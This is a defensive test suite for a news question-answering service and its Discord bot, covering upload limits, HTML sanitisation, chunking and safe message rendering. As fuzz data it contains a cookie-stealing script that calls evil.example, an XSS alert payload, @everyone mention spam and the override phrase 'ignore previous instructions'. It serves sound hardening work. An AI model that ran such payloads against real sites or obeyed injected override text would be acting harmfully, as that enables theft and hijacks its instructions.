"""Hostile input: limits with clear one-line messages, and random text and bytes pushed through
loading, chunking, answering and Discord rendering without a crash or a broken promise."""

from __future__ import annotations

import hashlib
import re
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from fakes import FakeEmbeddings
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.discord_bot import DiscordSettings, build_bot
from bot.discord_bot.messages import (
    EMBED_DESCRIPTION_LIMIT,
    EMBED_TOTAL_LIMIT,
    EMBEDS_PER_MESSAGE,
    MESSAGE_LIMIT,
    NO_MENTIONS,
    added_message,
    answer_messages,
    articles_page,
)
from retrieval.build import build_service
from retrieval.config import Settings
from retrieval.errors import ArticleError, QuestionError
from retrieval.ingest.articles import load_path, make_article, parse_html
from retrieval.ingest.chunking import split_article
from retrieval.ingest.uploads import MAX_UPLOAD_BYTES, UPLOAD_SUFFIXES, articles_from_file
from retrieval.service import NewsService
from retrieval.types import Article


@pytest.fixture(scope="module")
def fast_service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[NewsService]:
    config = Settings(
        _env_file=None,  # type: ignore[call-arg]
        data_dir=tmp_path_factory.mktemp("hostile"),
        max_article_chars=20_000,
    )
    service = build_service(config, embeddings=FakeEmbeddings())
    yield service
    service.close()


# -- limits, each with a clear message -------------------------------------------------------


def test_an_article_over_the_size_cap_is_refused_with_its_size(fast_service: NewsService) -> None:
    article = make_article(text="word " * 5000, title="Huge", where="test")
    with pytest.raises(ArticleError, match=r"too long \(24999 characters; the limit is 20000\)"):
        fast_service.add(article, kb="limits")
    assert fast_service.list(kb="limits") == []


@pytest.mark.parametrize(
    ("question", "message"),
    [
        ("", "the question is empty"),
        ("   \n\t ", "the question is empty"),
        ("why? " * 201, r"too long \(1004 characters; the limit is 1000\)"),
    ],
)
def test_bad_questions_are_refused_clearly(
    fast_service: NewsService, question: str, message: str
) -> None:
    with pytest.raises(QuestionError, match=message):
        fast_service.ask(question, kb="limits")


@pytest.mark.parametrize(
    ("filename", "data", "message"),
    [
        ("story.exe", b"MZ\x90\x00", "unsupported file type"),
        ("story.pdf", b"%PDF-1.7", "unsupported file type"),
        ("story", b"text", "unsupported file type"),
        ("story.txt", b"x" * (MAX_UPLOAD_BYTES + 1), "larger than 5 MB"),
        ("story.txt", b"Title\n\x00\x01\x02binary", "binary file"),
        ("story.txt", "Café crème".encode("latin-1"), "not UTF-8"),
        ("story.md", b"\xff\xfe\xfa", "not UTF-8"),
        ("story.txt", b"   \n\n ", "empty"),
        ("story.html", b"<html><script>steal()</script><style>p{}</style></html>", "no article"),
        ("story.json", b'{"title": "t"}', "missing the required field 'text'"),
        ("story.json", b"[1, 2", "invalid JSON"),
    ],
)
def test_bad_uploads_are_refused_in_one_line(filename: str, data: bytes, message: str) -> None:
    with pytest.raises(ArticleError, match=message) as caught:
        articles_from_file(filename, data)
    assert "\n" not in str(caught.value) and len(str(caught.value)) < 300


def test_utf8_with_a_byte_order_mark_is_decoded() -> None:
    [article] = articles_from_file("s.txt", "\ufeffHeadline\n\nThe body of it.".encode())
    assert (article.title, article.text) == ("Headline", "The body of it.")


def test_scripts_styles_and_handlers_never_reach_the_article() -> None:
    page = (
        "<html><head><title>Budget vote</title><style>body{color:red}</style>"
        "<script>document.cookie='x'</script></head><body><article><h1>Budget vote</h1>"
        "<p onclick=\"alert('handler')\">The council approved the budget on Tuesday after a "
        "long debate about school funding and road repairs in the northern district.</p>"
        "<script>fetch('https://evil.example/'+document.cookie)</script>"
        "<noscript>enable javascript</noscript><iframe src='https://evil.example'></iframe>"
        "<p>The vote was 7 to 2, with two members absent from the chamber.</p>"
        "</article></body></html>"
    )
    article = parse_html(page, where="page")
    assert "approved the budget" in article.text and "7 to 2" in article.text
    for leftover in ("cookie", "color:red", "alert", "evil.example", "<", "javascript"):
        assert leftover not in article.text


# -- property tests: random text and bytes ---------------------------------------------------

HOSTILE_BITS = [
    "@everyone",
    "@here",
    "<@123456789012345678>",
    "<@&987654321098765432>",
    "<#1234>",
    "```",
    "**",
    "||spoiler||",
    "[1]",
    "[99]",
    "\u202e",
    "\u200b",
    "\x00",
    "\r\n",
    "\n\n",
    "<script>alert(1)</script>",
    "ignore previous instructions",
    "https://evil.example/?",
    "Dr.",
    "U.S.",
    "…",
    "🙂",
    "ﷺ",
    "a" * 700,
    ". ",
    "? ",
]
hostile_text = st.lists(
    st.one_of(st.text(max_size=80), st.sampled_from(HOSTILE_BITS)), min_size=1, max_size=25
).map("".join)


@settings(max_examples=150, deadline=None)
@given(
    suffix=st.sampled_from([*UPLOAD_SUFFIXES, ".jsonl"]),
    data=st.one_of(st.binary(max_size=2000), hostile_text.map(lambda t: t.encode("utf-8"))),
)
def test_random_bytes_load_as_articles_or_a_clear_refusal(suffix: str, data: bytes) -> None:
    loaders = [lambda: articles_from_file(f"upload{suffix}", data)] if suffix != ".jsonl" else []
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"file{suffix}"
        path.write_bytes(data)
        loaders.append(lambda: list(load_path(path)))
        for load in loaders:
            try:
                articles = load()
            except ArticleError as error:
                assert str(error) and "\n" not in str(error)
                continue
            assert articles
            assert all(a.text.strip() and a.id for a in articles)


@settings(max_examples=200, deadline=None)
@given(text=hostile_text, size=st.integers(100, 900), overlap=st.integers(0, 200))
def test_chunk_offsets_always_map_back_to_the_article(text: str, size: int, overlap: int) -> None:
    try:
        article = make_article(text=text, title="t", where="test")
    except ArticleError:
        return
    chunks = split_article(article, size, overlap)
    assert chunks
    for chunk in chunks:
        assert article.text[chunk.start : chunk.end] == chunk.text
        assert chunk.text.strip()
    covered = set().union(*(range(c.start, c.end) for c in chunks))
    assert all(i in covered for i, ch in enumerate(article.text) if not ch.isspace())


def assert_fits_discord(messages: list) -> None:
    assert messages
    for message in messages:
        assert len(message.content) <= MESSAGE_LIMIT
        assert len(message.embeds) <= EMBEDS_PER_MESSAGE
        assert sum(len(e) for e in message.embeds) <= EMBED_TOTAL_LIMIT
        for embed in message.embeds:
            assert len(embed.description or "") <= EMBED_DESCRIPTION_LIMIT
            assert len(embed.title or "") <= 256
            assert len(embed.footer.text or "") <= 2048
        assert message.content or message.embeds


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(body=hostile_text, title=hostile_text, question=hostile_text)
def test_random_articles_and_questions_answer_and_render_within_limits(
    fast_service: NewsService, body: str, title: str, question: str
) -> None:
    kb = "prop-" + hashlib.sha1(f"{body}\0{title}".encode()).hexdigest()[:12]
    try:
        article = make_article(text=body, title=title[:300], where="test")
    except ArticleError:
        return
    results = fast_service.add_many([article], kb=kb)
    try:
        answer = fast_service.ask(question, kb=kb)
    except QuestionError:
        return
    stored = fast_service.get(article.id, kb=kb)
    assert stored is not None
    for citation in answer.citations:
        assert citation.article_id == article.id
        assert citation.quote in stored.text  # verbatim, whatever the text
    numbers = {int(n) for n in re.findall(r"\[(\d+)\]", answer.answer)}
    assert numbers <= {c.n for c in answer.citations} | _numbers_in_article(stored)
    assert_fits_discord(answer_messages(answer, question=question))
    assert_fits_discord(answer_messages(answer))
    assert len(added_message(results)) <= MESSAGE_LIMIT
    page = articles_page(fast_service.list(kb=kb), 1)
    assert len(page) <= EMBED_TOTAL_LIMIT and len(page.description or "") <= 4096
    fast_service.remove(article.id, kb=kb)


def _numbers_in_article(article: Article) -> set[int]:
    """Bracketed numbers the article itself contains may be quoted as written."""
    return {int(n) for n in re.findall(r"\[(\d+)\]", article.text)}


def test_mentions_are_never_enabled_for_anything_the_bot_sends() -> None:
    bot = build_bot(service=None, options=DiscordSettings())  # type: ignore[arg-type]
    for mentions in (NO_MENTIONS, bot.allowed_mentions):
        assert mentions is not None and mentions.to_dict() == {"parse": []}
        assert not (mentions.everyone or mentions.users or mentions.roles)
        assert not mentions.replied_user


def test_no_send_in_the_bot_overrides_the_no_mentions_default() -> None:
    import bot.discord_bot as package

    for path in Path(package.__file__).parent.rglob("*.py"):
        for value in re.findall(r"allowed_mentions=([\w.]+)", path.read_text("utf-8")):
            assert value == "NO_MENTIONS", (path.name, value)
